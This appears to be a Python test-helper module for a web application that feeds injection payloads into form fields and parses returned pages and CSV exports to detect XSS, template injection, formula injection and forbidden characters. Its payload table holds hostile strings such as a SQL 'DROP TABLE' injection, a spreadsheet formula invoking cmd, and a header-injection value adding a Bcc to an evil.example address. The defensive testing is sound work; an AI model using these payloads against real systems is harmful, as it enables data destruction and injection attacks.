"""Texts that mean harm, and a reader of pages that sees whether one of them took effect."""

from __future__ import annotations

import csv
import io
from dataclasses import dataclass, field
from html.parser import HTMLParser

#: Sent as text into every field; shown, they must be nothing but text.
PAYLOADS = {
    "tag": "\"'><xss-tag onxss=1>{{ 7191 * 7 }}</xss-tag>",
    "attribute": "x\" onxss=\"1\" y='1' onxss='1",
    "address": "javascript:xss()",
    "template": "{{ 7191 * 7 }}{% raw %}${7191*7}#{7191*7}",
    "sql": "x'; DROP TABLE orders_order; --",
    "sql or": "' OR '1'='1' /*",
    "like": "%_\\",
    "formula": "=cmd|' /C xss'!A0",
    "typst": '#eval("1") $x *_` \\ ]#',
    "header": "x\r\nBcc: xss@evil.example",
}
#: Several at once, each where it does harm: a formula begins the cell.
MIXED = " ".join(PAYLOADS[name] for name in ("formula", "attribute", "tag", "typst", "sql"))
#: Refused wherever they stand, with a sentence that names the character.
BANNED = {
    "nul": "a\x00b",
    "bidi override": "invoice\u202efdp.exe",
}
#: What a template in a text would make of it.
COMPUTED = "50337"
LONG = "x" * 100_000
#: Classes of what says a sentence: at a field, over a form, over a page, a page of its own.
_SAYING = {"tk-error", "tk-summary", "tk-finding", "tk-flash", "tk-empty"}
_LEADING = ("href", "src", "action", "formaction")
_TYPED = {"text", "search", "email", "tel", "url", "password", ""}


@dataclass
class Form:
    """A form of a page: where it goes, its fields as the browser would send them, and those that people type into."""

    action: str
    method: str
    values: list[tuple[str, str]] = field(default_factory=list)
    typed: dict[str, dict[str, str]] = field(default_factory=dict)
    hidden: list[str] = field(default_factory=list)


def may_be_alive(html: str) -> bool:
    """Tell whether a page holds any of what `Page` takes for alive, as text or otherwise: reading it takes long."""
    lower = html.lower()
    return any(sign in lower for sign in ("<xss", "onxss", "javascript:", COMPUTED))


class Page(HTMLParser):
    """Reads a page: its forms, its links, its errors, and what in it came alive that should be text."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.forms: list[Form] = []
        self.links: list[str] = []
        self.alive: list[str] = []
        self.sentences = 0
        self._form: Form | None = None
        self._inert = 0
        self._area = ""
        self._select = ""
        self._chosen: str | None = None
        self.feed(html)
        if COMPUTED in html:
            self.alive.append("a template in a text was computed")

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Look at a tag."""
        given = {name: value or "" for name, value in attrs}
        if tag.startswith("xss") or any(name.startswith("onxss") for name in given):
            self.alive.append(f"<{tag} {attrs}>")
        if any(given[name].strip().lower().startswith("javascript:") for name in _LEADING if name in given):
            self.alive.append(f"<{tag} {attrs}>")
        if tag == "template":
            self._inert += 1
        elif not self._inert and _SAYING & set(given.get("class", "").split()):
            self.sentences += 1
        if tag == "a" and given.get("href", "").startswith("/"):
            self.links.append(given["href"])
        elif tag == "form":
            self._form = Form(given.get("action", ""), given.get("method", "get").lower())
            self.forms.append(self._form)
        elif self._form is not None:
            self._field(tag, given)

    def _field(self, tag: str, given: dict[str, str]) -> None:
        assert self._form is not None
        name = given.get("name", "")
        if tag == "textarea" and name:
            self._form.values.append((name, ""))
            self._form.typed[name] = given
            self._area = name
        elif tag == "select" and name:
            self._select, self._chosen = name, None
        elif tag == "option" and self._select and (self._chosen is None or "selected" in given):
            self._chosen = given.get("value", "")
        elif tag == "input" and name:
            kind = given.get("type", "")
            if kind in ("checkbox", "radio"):
                if "checked" in given:
                    self._form.values.append((name, given.get("value", "on")))
            elif kind not in ("file", "submit", "image", "button"):
                self._form.values.append((name, given.get("value", "")))
                if kind in _TYPED:
                    self._form.typed[name] = given
                elif kind == "hidden" and name != "csrf_token":
                    self._form.hidden.append(name)

    def handle_data(self, data: str) -> None:
        """Keep what stands in a text area."""
        if self._area and self._form is not None and self._form.values:
            name, value = self._form.values[-1]
            self._form.values[-1] = (name, value + data)

    def handle_endtag(self, tag: str) -> None:
        """Close what the tag closes."""
        if tag == "template":
            self._inert -= 1
        elif tag == "form":
            self._form = None
        elif tag == "textarea":
            self._area = ""
        elif tag == "select" and self._form is not None and self._select:
            self._form.values.append((self._select, self._chosen or ""))
            self._select = ""


def formulas_in(body: str) -> list[str]:
    """Return the cells of a CSV file that a spreadsheet would compute."""
    rows = csv.reader(io.StringIO(body.removeprefix("\ufeff")))
    return [cell for row in rows for cell in row if cell.startswith(PAYLOADS["formula"][:4])]
